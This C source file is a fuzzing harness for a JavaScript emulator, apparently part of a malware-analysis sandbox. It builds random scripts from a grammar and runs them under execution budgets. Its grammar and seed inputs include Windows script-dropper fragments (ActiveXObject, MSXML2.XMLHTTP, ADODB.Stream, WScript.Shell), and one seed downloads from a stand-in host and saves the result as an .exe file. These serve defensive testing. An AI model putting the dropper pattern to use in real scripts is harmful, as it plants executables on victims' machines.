/* Programs that were never written: the run ends within its budget whatever it reads. The first byte chooses: the rest as it is, or
 * a program grown from it by a small grammar, which gets further than bytes do. */
#include "fuzz.h"

#include <stdlib.h>

#include "base/attr.h"
#include "base/buf.h"
#include "emulate/javascript/javascript.h"
#include "make/made_world.h"

enum { DEPTH_MOST = 9, TEXT_MOST = 1 << 14, STEPS = 20000 };

struct grower {
    sk_bytes from;
    size_t at;
    sk_buf out;
};

static unsigned pick(struct grower *g, unsigned count)
{
    int c = sk_at(g->from, g->at++);
    return c < 0 ? 0 : (unsigned)c % count;
}

/* ~ is an expression, ^ a statement, @ a name. */
static const char *const expressions[] = {
    "1", "'text'", "@", "this", "(~)", "~+~", "~==='MZ'", "~(~)", "~.length", "~[~]", "new ActiveXObject(~)", "(@=>~)", "function @(@){^}", "[~,...~]", "{a:~,[~]:~,...~}",
    "`a${~}`", "~?.a?.(~)", "~?\?~", "eval(~)", "new Function(~)()", "~.call(~,~)", "String.fromCharCode(~)", "/(a+)+$/.exec(~)", "(@=~)", "({a:@,...@}=~)", "[@,@]=~",
    "class extends ~{constructor(){super(~)}get a(){^return ~}}", "(async()=>{^await ~})()", "typeof ~", "~.a(~)=~", "WScript.CreateObject(~)", "document.createElement(~)",
    "new Blob([~])", "atob(~)", "~.split('').reverse().join(~)", "new Date(~)", "GetObject(~)", "delete ~", "'MSXML2.XMLHTTP'", "'ADODB.Stream'", "'WScript.Shell'",
    "~.open('GET','http://a.example/',0)", "~.send()", "~.responseText", "~.Run(~)", "Array.from(~)", "~.map(@=>~)", "-~", "~,~", "~?~:~"};
static const char *const statements[] = {
    "~;", "var @=~;", "let {@,...@}=~;", "if(~){^}else{^}", "for(var @=0;@<~;@++){^}", "for(let @ of ~){^}", "for(@ in ~){^}", "while(~){^break}", "do{^}while(~)",
    "try{^}catch(e){^}finally{^}", "throw ~;", "function @(@,@=~){^return ~}", "function*@(){^yield ~}", "class @{#a=~;static b=~;m(){^}}", "switch(~){case ~:^default:^}",
    "with(~){^}", "@:for(;;){^break @}", "/*@cc_on ^@*/", "^^", "setTimeout(~,~);", "return ~;", "@ = ~;", "document.write(~);", "location=~;", "{^}"};

static void grow(struct grower *g, bool statement, unsigned depth)
{
    if (g->out.len > TEXT_MOST) return;
    const char *text = statement ? statements[pick(g, SK_COUNT(statements))] : expressions[pick(g, SK_COUNT(expressions))];
    if (depth >= DEPTH_MOST) text = statement ? ";" : "@";
    for (; *text; text++) {
        if (*text == '~') grow(g, false, depth + 1);
        else if (*text == '^') grow(g, true, depth + 1);
        else if (*text == '@' && text[1] != 'c' && text[1] != '*') sk_buf_byte(&g->out, (uint8_t)"abcx"[pick(g, 4)]);
        else sk_buf_byte(&g->out, (uint8_t)*text);
    }
}

int LLVMFuzzerTestOneInput(const uint8_t *data, size_t size)
{
    if (size > TEXT_MOST) size = TEXT_MOST;
    sk_bytes in = sk_bytes_of(data, size), text = sk_from(in, 1);
    make_world *m = make_world_new();
    m->budget.limits.value[SK_LIMIT_JAVASCRIPT_STEPS] = STEPS;
    m->budget.limits.value[SK_LIMIT_JAVASCRIPT_TIME] = 300;
    m->budget.limits.value[SK_LIMIT_JAVASCRIPT_MEMORY] = 4 << 20;
    m->budget.limits.value[SK_LIMIT_JAVASCRIPT_ALLOCATED] = 256 << 20;
    unsigned choice = size ? data[0] : 0;
    if (choice & 1) {
        struct grower g = {.from = text, .out = sk_buf_new(m->arena, TEXT_MOST * 2)};
        while (g.at < text.len && g.out.len < TEXT_MOST) grow(&g, true, 0);
        text = sk_buf_view(&g.out);
    }
    sk_javascript_options options = {.host = (sk_javascript_host)(choice / 2 % 3)};
    sk_javascript_figures figures = {0};
    sk_javascript_run(m->world, (sk_place){.len = text.len}, text, &options, &figures);
    sk_world_finish(m->world);
    if (figures.steps > STEPS) abort();
    make_world_free(m);
    return 0;
}

static const char *const seeds[] = {
    "0var x=new ActiveXObject('MSXML2.XMLHTTP');x.open('GET','http://a.example/',0);x.send();if(x.status==200){var s=new "
    "ActiveXObject('ADODB.Stream');s.Open();s.Write(x.responseBody);s.SaveToFile('C:\\\\a.exe')}",
    "2document.write('<b>'+atob('YWJj'));var a=document.createElement('a');a.href=URL.createObjectURL(new Blob(['x']));a.download='a';a.click()",
    "4class A{#a=1;get b(){return this.#a}static c=2}let {d,...e}={d:1,f:2};for(const [k,v] of Object.entries(e))((x=k,...y)=>`${x}${y}`)(v)",
    "0/*@cc_on @set @a=1 @if(@a) eval('a'+'b') @else @*/ x:for(;;){with(a){break x}} /*@end @*/",
    "2(async()=>{try{await fetch('x')}catch{}})();a?.b?.[c]?\?d;var f=function g(){};a(1)=2;switch(1){case 1:let q}",
    "1\12\3\5\7abcdefghijklmnopqrstuvwxyz0123456789",
    "3ZYXWVUTSRQPONMLKJIHGFEDCBA9876543210",
};

void sk_fuzz_seeds(void (*take)(void *self, sk_bytes seed), void *self)
{
    for (size_t i = 0; i < SK_COUNT(seeds); i++) take(self, sk_bytes_str(seeds[i]));
}
